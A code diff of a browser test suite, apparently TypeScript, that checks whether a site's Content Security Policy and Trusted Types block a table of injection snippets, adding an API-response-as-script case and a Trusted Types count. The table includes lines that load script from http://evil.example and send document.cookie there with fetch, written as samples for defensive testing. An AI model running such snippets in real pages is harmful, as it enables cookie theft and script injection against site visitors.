@@ -12,6 +12,7 @@ const SINKS: Readonly<Record<string, string>> = {
   'an inline script': `{ const s = document.createElement('script'); s.textContent = 'window.injectedRan=1'; document.head.append(s); }`,
   'a script from elsewhere': `{ const s = document.createElement('script'); s.src = 'http://evil.example/x.js'; document.head.append(s); }`,
   'a script from here without its hash': `{ const s = document.createElement('script'); s.src = '/robots.txt?x.js'; document.head.append(s); }`,
+  'an answer of the service as a script': `{ const s = document.createElement('script'); s.src = '/api/visitor/game/list'; document.head.append(s); }`,
   'a script address of data': `{ const s = document.createElement('script'); s.src = 'data:text/javascript,window.injectedRan=1'; document.head.append(s); }`,
   eval: `try { (0, eval)('window.injectedRan=1'); } catch {}`,
   'new Function': `try { new Function('window.injectedRan=1')(); } catch {}`,
@@ -23,6 +24,9 @@ const SINKS: Readonly<Record<string, string>> = {
   'data sent elsewhere': `fetch('http://evil.example/?' + document.cookie).catch(() => undefined)`,
   'a picture from elsewhere': `{ new Image().src = 'http://evil.example/x.png'; }`,
 };
+
+/** Of these, the sinks that take trusted types: HTML, content and addresses of scripts, eval, timers, frames. */
+const TYPED_SINKS = 9;
 
 /** Runs in the page before its scripts: counts what the policy refuses. */
 function followViolations(): void {
@@ -64,16 +68,19 @@ export const policyDrills: readonly Drill[] = [
       mustEqual(away, [], 'requests to elsewhere');
       const refused = await page.evaluate(() => {
         const seen: unknown = Reflect.get(window, 'violations');
-        return Array.isArray(seen) ? seen.length : 0;
+        return Array.isArray(seen) ? seen.map(String) : [];
       });
-      must(refused >= Object.keys(SINKS).length - 2, `only ${refused} violations were seen`);
+      const least = Object.keys(SINKS).length - 2;
+      must(refused.length >= least, `only ${refused.length} violations were seen`);
+      const typed = refused.filter((directive) => directive === 'require-trusted-types-for').length;
+      must(typed >= TYPED_SINKS, `only ${typed} of them because text is no trusted type`);
       mustEqual(visit.documents, 1, 'document loads');
       await follow(page, '/game-library');
       await until('the application goes on', 5_000, async () => {
         return (await page.$$('main a[href^="/game-library/"]')).length > 5;
       });
       await visit.end();
-      return `${refused} violations refused by the policy`;
+      return `${refused.length} violations refused by the policy, ${typed} of them by Trusted Types`;
     },
   },
 ];
